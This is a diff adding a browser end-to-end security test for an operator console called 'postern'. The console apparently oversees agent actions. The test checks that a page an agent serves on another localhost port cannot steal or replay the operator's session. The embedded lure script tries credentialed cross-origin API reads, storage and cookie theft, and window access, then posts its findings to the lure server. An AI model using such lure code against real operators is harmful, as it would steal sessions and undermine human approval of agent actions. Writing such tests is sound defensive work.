@@ -1,0 +1,184 @@
+import { mkdtempSync, rmSync } from 'node:fs';
+import { createServer, type IncomingHttpHeaders, type Server } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import os from 'node:os';
+import path from 'node:path';
+import type { Browser } from 'playwright-core';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { repoRoot, startDaemon, type RunningDaemon } from '../tests/support/postern-process.js';
+import { assertRendererBuilt, launchChromium, openOperatorPage, sessionSecretOf, type OperatorPage } from './fixtures/browser.js';
+
+/**
+ * The cross-port theft, performed: the operator signs in with the printed URL in real Chromium,
+ * then opens a page an agent serves on another port of 127.0.0.1 (a link in the agent's output).
+ * The lure server records every header it receives; the lure page's script tries to reach the
+ * operator API and read whatever it can, and reports it. Everything the lure got is then replayed
+ * against the operator API, as a bearer and as a cookie: none of it may grant access.
+ */
+interface Recorded {
+  url: string;
+  headers: IncomingHttpHeaders;
+  body: string;
+}
+
+const lureScript = `
+(async () => {
+  const target = new URLSearchParams(location.search).get('target');
+  const results = {};
+  const attempt = async (name, fn) => {
+    try { results[name] = { ok: true, value: await fn() }; } catch (error) { results[name] = { ok: false, error: String(error) }; }
+  };
+  const read = async (response) => ({ type: response.type, status: response.status, body: await response.text() });
+  await attempt('get status with credentials', async () => read(await fetch(target + '/api/status', { credentials: 'include' })));
+  await attempt('json post with credentials', async () => read(await fetch(target + '/api/approvals.list', {
+    method: 'POST', credentials: 'include', headers: { 'Content-Type': 'application/json' }, body: '{}' })));
+  await attempt('simple post, no-cors', async () => read(await fetch(target + '/api/approvals.list', {
+    method: 'POST', mode: 'no-cors', credentials: 'include', headers: { 'Content-Type': 'text/plain' }, body: '{}' })));
+  await attempt('the operator page', async () => read(await fetch(target + '/', { credentials: 'include' })));
+  await attempt('own storage and cookies', () => JSON.stringify({ session: { ...sessionStorage }, local: { ...localStorage }, cookie: document.cookie }));
+  await attempt('a window on the operator origin', () => {
+    const opened = window.open(target + '/');
+    try { return String(opened && opened.sessionStorage.getItem('postern.operatorSession')); } finally { if (opened) opened.close(); }
+  });
+  await fetch('/report', { method: 'POST', body: JSON.stringify(results) });
+  document.title = 'lure done';
+})();
+`;
+
+/** The agent's server on another loopback port: it keeps every request it is sent. */
+async function startLure(): Promise<{ server: Server; origin: string; recorded: Recorded[] }> {
+  const recorded: Recorded[] = [];
+  const server = createServer((req, res) => {
+    const chunks: Buffer[] = [];
+    req.on('data', (chunk: Buffer) => chunks.push(chunk));
+    req.on('end', () => {
+      recorded.push({ url: req.url ?? '', headers: req.headers, body: Buffer.concat(chunks).toString('utf8') });
+      if ((req.url ?? '').startsWith('/lure.js')) {
+        res.writeHead(200, { 'Content-Type': 'text/javascript' }).end(lureScript);
+        return;
+      }
+      if ((req.url ?? '').startsWith('/lure')) {
+        const target = new URL(req.url ?? '', 'http://x').searchParams.get('target') ?? '';
+        res.writeHead(200, { 'Content-Type': 'text/html' }).end(`<!doctype html><title>lure</title><script src="/lure.js?target=${encodeURIComponent(target)}"></script>`);
+        return;
+      }
+      res.writeHead(204).end();
+    });
+  });
+  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', () => resolve()));
+  return { server, origin: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, recorded };
+}
+
+/** Every value that could be a credential: each header value, each cookie, and each token-like run of characters. */
+function candidateSecrets(texts: string[]): string[] {
+  const found = new Set<string>();
+  for (const text of texts) {
+    found.add(text.trim());
+    for (const part of text.split(/[;,\s]+/)) {
+      const cookieValue = part.includes('=') ? part.slice(part.indexOf('=') + 1) : part;
+      if (cookieValue !== '') found.add(cookieValue);
+    }
+    for (const match of text.matchAll(/[A-Za-z0-9_-]{20,}/g)) found.add(match[0]);
+  }
+  return [...found].filter((value) => value !== '' && value.length <= 4096 && /^[\x21-\x7e]+$/.test(value));
+}
+
+const scratch = mkdtempSync(path.join(os.tmpdir(), 'postern-e2e-auth-'));
+let daemon: RunningDaemon;
+let browser: Browser;
+let lure: Awaited<ReturnType<typeof startLure>>;
+let operator: OperatorPage;
+
+beforeAll(async () => {
+  assertRendererBuilt(repoRoot);
+  [daemon, browser, lure] = await Promise.all([startDaemon(path.join(scratch, 'data')), launchChromium(), startLure()]);
+  // The real sign-in: the first use of the printed URL, in a real tab.
+  operator = await openOperatorPage(browser, daemon.operatorUrl);
+  await operator.page.getByTestId('status-data-dir').waitFor();
+}, 90_000);
+
+afterAll(async () => {
+  await browser?.close();
+  await new Promise<void>((resolve) => (lure?.server ? lure.server.close(() => resolve()) : resolve()));
+  await daemon?.process.stop();
+  rmSync(scratch, { recursive: true, force: true });
+}, 30_000);
+
+describe('when the signed-in operator opens a page an agent serves on another port of 127.0.0.1', () => {
+  it('the lure receives and reads nothing that opens the operator API', async () => {
+    const { context, page } = operator;
+    const session = await sessionSecretOf(page);
+    expect(session).toMatch(/^[A-Za-z0-9_-]{43}$/);
+    const lureUrl = `${lure.origin}/lure?target=${encodeURIComponent(daemon.origin)}`;
+
+    // Twice: in a new tab of the same browser, and by leaving the operator's own tab for the lure.
+    for (const tab of [await context.newPage(), page]) {
+      await tab.goto(lureUrl);
+      await tab.waitForFunction(() => document.title === 'lure done', undefined, { timeout: 20_000 });
+    }
+    const reports = lure.recorded.filter((r) => r.url === '/report').map((r) => JSON.parse(r.body) as Record<string, { ok: boolean; value?: unknown; error?: string }>);
+    expect(reports).toHaveLength(2);
+    for (const report of reports) {
+      // Cross-origin reads fail outright (no CORS grant); even the opaque no-cors answer is blocked (CORP same-origin).
+      expect(report['get status with credentials']).toMatchObject({ ok: false });
+      expect(report['json post with credentials']).toMatchObject({ ok: false });
+      expect(report['simple post, no-cors']).toMatchObject({ ok: false });
+      expect(report['the operator page']).toMatchObject({ ok: false });
+      expect(report['own storage and cookies']).toEqual({ ok: true, value: JSON.stringify({ session: {}, local: {}, cookie: '' }) });
+      expect(JSON.stringify(report['a window on the operator origin'])).not.toContain(session);
+    }
+
+    // Nothing the lure was sent carries a cookie or a secret.
+    expect(lure.recorded.filter((r) => r.headers.cookie !== undefined)).toEqual([]);
+    const everything = lure.recorded.flatMap((r) => [r.url, r.body, ...Object.values(r.headers).flat().filter((v): v is string => v !== undefined)]);
+    expect(everything.join('\n')).not.toContain(session);
+    expect(everything.join('\n')).not.toContain(daemon.token);
+
+    // Replay: every value it received or read, as a bearer and as a cookie, against a real operator call.
+    const candidates = candidateSecrets(everything);
+    expect(candidates.length).toBeGreaterThan(10);
+    const replayStatuses = new Set<number>();
+    for (const value of candidates) {
+      const variants: Array<Record<string, string>> = [{ Authorization: `Bearer ${value}` }, { Cookie: value }, { Cookie: `postern_session_${daemon.port}=${value}` }];
+      for (const headers of variants) {
+        const answer = await fetch(`${daemon.origin}/api/approvals.list`, { method: 'POST', headers: { ...headers, 'Content-Type': 'application/json' }, body: '{}' });
+        replayStatuses.add(answer.status);
+      }
+    }
+    expect([...replayStatuses]).toEqual([401]);
+
+    // The operator's tab is still signed in when it comes back to its origin: sessionStorage is per tab and origin.
+    await page.goto(`${daemon.origin}/`);
+    await page.getByTestId('status-data-dir').waitFor();
+    expect(await page.getByTestId('status-error').count()).toBe(0);
+    const control = await fetch(`${daemon.origin}/api/approvals.list`, { method: 'POST', headers: { Authorization: `Bearer ${session ?? ''}`, 'Content-Type': 'application/json' }, body: '{}' });
+    expect(control.status).toBe(200);
+  });
+
+  it('refuses the printed URL a second time, in another browser context, with a page that says why', async () => {
+    const context = await browser.newContext();
+    const page = await context.newPage();
+    const response = await page.goto(daemon.operatorUrl);
+    expect(response?.status()).toBe(401);
+    const text = (await page.locator('body').textContent()) ?? '';
+    expect(text).toContain('SIGN_IN_USED');
+    expect(text).toContain('already used');
+    expect(await page.evaluate(() => sessionStorage.length)).toBe(0);
+    expect(await context.cookies()).toEqual([]);
+    await context.close();
+  });
+
+  it('keeps the signed-in tab working after a reload', async () => {
+    const { page, problems } = operator;
+    // What the lure's own script logged while this tab showed it is not the operator page's problem.
+    const before = problems.length;
+    await page.goto(`${daemon.origin}/`);
+    await page.getByTestId('status-data-dir').waitFor();
+    await page.reload();
+    // A fresh document has no last status to keep: the data directory shows only if the reloaded page's call was answered.
+    await page.getByTestId('status-data-dir').waitFor();
+    expect(await page.getByTestId('status-error').count()).toBe(0);
+    expect(page.url()).toBe(`${daemon.origin}/`);
+    expect(problems.slice(before)).toEqual([]);
+  });
+});
